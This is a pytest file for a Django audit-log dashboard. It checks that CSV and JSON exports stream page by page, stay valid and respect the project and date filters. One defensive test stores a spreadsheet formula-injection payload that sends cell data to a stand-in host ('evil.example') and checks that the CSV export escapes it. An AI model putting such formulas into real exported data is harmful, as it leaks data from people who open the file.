"""The audit log's CSV and JSON exports through the ASGI application the server runs: the first
entries leave before the rest is read, a page of entries per short query, the whole file valid;
and the page's project and date filters, whose export holds only what they chose."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta

import pytest
from asgiref.sync import sync_to_async
from channels.testing import ApplicationCommunicator
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dashboard.asgi import application
from dashboard.audit import selectors
from dashboard.models import AuditAction, AuditEntry
from tests.audit.conftest import history
from tests.conftest import parse_html
from tests.dashboard.test_reviewer_stack import signed_in as cookie_of

ENTRIES = 120
CHUNK = 25


def recorded(count: int, *, project: str = "shop", at: datetime | None = None) -> None:
    """`count` permission answers, a second apart, the newest at `at` (now by default)."""
    newest = at or timezone.now()
    history(
        AuditEntry(
            at=newest - timedelta(seconds=n),
            actor_name="sam",
            action=AuditAction.REQUEST_ALLOWED,
            project_name=project,
            about=f"request:{n}",
            summary=f"Bash: make step-{n}",
            surface="inbox",
            address="10.0.0.7",
        )
        for n in range(count)
    )


class Gate:
    """Holds the export before it reads its second page of entries, until opened."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.opened = threading.Event()
        self.pages_read: list[int] = []
        real = selectors.export_pages

        def gated(chosen: object) -> Iterator[list[AuditEntry]]:
            for number, rows in enumerate(real(chosen)):
                self.pages_read.append(len(rows))
                yield rows
                if number == 0 and not self.opened.wait(10):
                    return

        monkeypatch.setattr(selectors, "export_pages", gated)


async def export_through_asgi(user: User, kind: str, gate: Gate) -> tuple[bytes, list[dict]]:
    """The export as the server sends it: the body received before the gate is opened, and
    every body message."""
    cookie = await sync_to_async(cookie_of)(user)
    communicator = ApplicationCommunicator(
        application,
        {
            "type": "http",
            "http_version": "1.1",
            "method": "GET",
            "path": f"/audit/export.{kind}",
            "query_string": b"",
            "headers": [(b"host", b"testserver"), (b"cookie", cookie.encode())],
            "client": ("10.0.0.9", 50000),
        },
    )
    await communicator.send_input({"type": "http.request", "body": b""})
    start = await communicator.receive_output(10)
    assert (start["type"], start["status"]) == ("http.response.start", 200)
    messages: list[dict] = []
    # The head of the file, then the first page of entries; the second page is not read yet.
    while b"step-%d" % (CHUNK - 1) not in b"".join(m.get("body", b"") for m in messages):
        messages.append(await communicator.receive_output(5))
    before_the_rest = b"".join(message.get("body", b"") for message in messages)
    assert gate.pages_read == [CHUNK]
    gate.opened.set()
    while messages[-1].get("more_body", False):
        messages.append(await communicator.receive_output(10))
    await communicator.wait(10)
    return before_the_rest, messages


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("kind", ["json", "csv"])
async def test_the_export_streams_its_first_entries_before_it_reads_the_rest(
    kind, reviewer, monkeypatch
):
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", CHUNK)
    await sync_to_async(recorded)(ENTRIES)
    gate = Gate(monkeypatch)

    before_the_rest, messages = await export_through_asgi(reviewer, kind, gate)

    assert b"step-0" in before_the_rest and b"step-%d" % CHUNK not in before_the_rest
    assert all(message.get("more_body") for message in messages[:-1])
    assert gate.pages_read == [CHUNK] * (ENTRIES // CHUNK) + [ENTRIES % CHUNK]
    body = b"".join(message.get("body", b"") for message in messages).decode()
    if kind == "json":
        rows = json.loads(body)["entries"]
    else:
        rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["summary"] for row in rows] == [f"Bash: make step-{n}" for n in range(ENTRIES)]
    assert rows[0]["person"] == "sam" and rows[0]["address"] == "10.0.0.7"


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_each_query_of_an_export_reads_one_page_of_entries(reviewer, monkeypatch):
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 3)
    recorded(7)
    pieces = iter(signed_in(reviewer).get("/audit/export.json").streaming_content)

    with CaptureQueriesContext(connection) as first:
        head, page = next(pieces), next(pieces)
    with CaptureQueriesContext(connection) as rest:
        body = head + page + b"".join(pieces)

    reads = [query["sql"] for query in [*first, *rest] if "dashboard_auditentry" in query["sql"]]
    assert len(first) == 1 and page.count(b'"summary"') == 3
    assert len(reads) == 3 and all(sql.endswith("LIMIT 3") for sql in reads)
    assert len(json.loads(body)["entries"]) == 7


@pytest.mark.django_db
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(reviewer):
    AuditEntry.objects.create(
        actor_name="sam",
        action=AuditAction.REQUEST_ALLOWED,
        project_name="=shop",
        summary='=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    )
    lead = signed_in(reviewer)

    (row,) = csv.DictReader(
        io.StringIO(b"".join(lead.get("/audit/export.csv").streaming_content).decode())
    )
    (entry,) = json.loads(b"".join(lead.get("/audit/export.json").streaming_content))["entries"]

    assert row["summary"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    assert row["project"] == "'=shop"
    assert entry["summary"].startswith("=HYPERLINK") and entry["project"] == "=shop"


# --- the page's project and date filters --------------------------------------------------


def noon(day: str) -> datetime:
    return timezone.make_aware(datetime.fromisoformat(f"{day} 12:00"))


def summaries(client: Client, query: str) -> list[str]:
    page = parse_html(client.get(f"/audit/?{query}").content)
    rows = page.find_all("tbody")[0].find_all("tr") if page.find_all("tbody") else []
    return [row.find("span", cls="audit-summary").text() for row in rows]


def exported(client: Client, query: str, kind: str) -> list[str]:
    """What the export link of the filtered page holds."""
    page = parse_html(client.get(f"/audit/?{query}").content)
    (link,) = [a for a in page.find("span", cls="audit-export").find_all("a") if a.text() == kind]
    body = b"".join(client.get(link.attrs["href"]).streaming_content).decode()
    if kind == "JSON":
        return [row["summary"] for row in json.loads(body)["entries"]]
    return [row["summary"] for row in csv.DictReader(io.StringIO(body))]


@pytest.mark.django_db
def test_the_project_filter_shows_and_exports_only_that_projects_entries(reviewer):
    recorded(2, project="shop")
    AuditEntry.objects.create(
        actor_name="sam", action=AuditAction.PROJECT_CHANGED, project_name="docs",
        summary="docs: two approvals",
    )  # fmt: skip
    lead = signed_in(reviewer)

    assert len(summaries(lead, "")) == 3
    assert summaries(lead, "project=docs") == ["docs: two approvals"]
    assert summaries(lead, "project=shop") == ["Bash: make step-0", "Bash: make step-1"]
    for kind in ("CSV", "JSON"):
        assert exported(lead, "project=docs", kind) == ["docs: two approvals"]
    assert summaries(lead, "project=nowhere") == []


@pytest.mark.django_db
def test_the_date_filter_keeps_whole_days_and_its_export_the_same_entries(reviewer):
    history([
        *(
            AuditEntry(
                at=noon(day), actor_name="sam", action=AuditAction.TOKEN_CREATED, summary=day
            )
            for day in ("2026-11-01", "2026-11-02", "2026-11-03")
        ),
        # The last minute of the 2nd, and the first of the 3rd.
        AuditEntry(
            at=noon("2026-11-02") + timedelta(hours=11, minutes=59), actor_name="sam",
            action=AuditAction.TOKEN_REVOKED, summary="late on the 2nd",
        ),
        AuditEntry(
            at=noon("2026-11-03") - timedelta(hours=12), actor_name="sam",
            action=AuditAction.TOKEN_REVOKED, summary="midnight of the 3rd",
        ),
    ])  # fmt: skip
    lead = signed_in(reviewer)

    only_the_2nd = "since=2026-11-02&until=2026-11-02"
    assert summaries(lead, only_the_2nd) == ["late on the 2nd", "2026-11-02"]
    assert summaries(lead, "since=2026-11-03") == ["2026-11-03", "midnight of the 3rd"]
    assert summaries(lead, "until=2026-11-01") == ["2026-11-01"]
    for kind in ("CSV", "JSON"):
        assert exported(lead, only_the_2nd, kind) == ["late on the 2nd", "2026-11-02"]
    assert exported(lead, "since=2026-11-02&project=shop", "CSV") == []
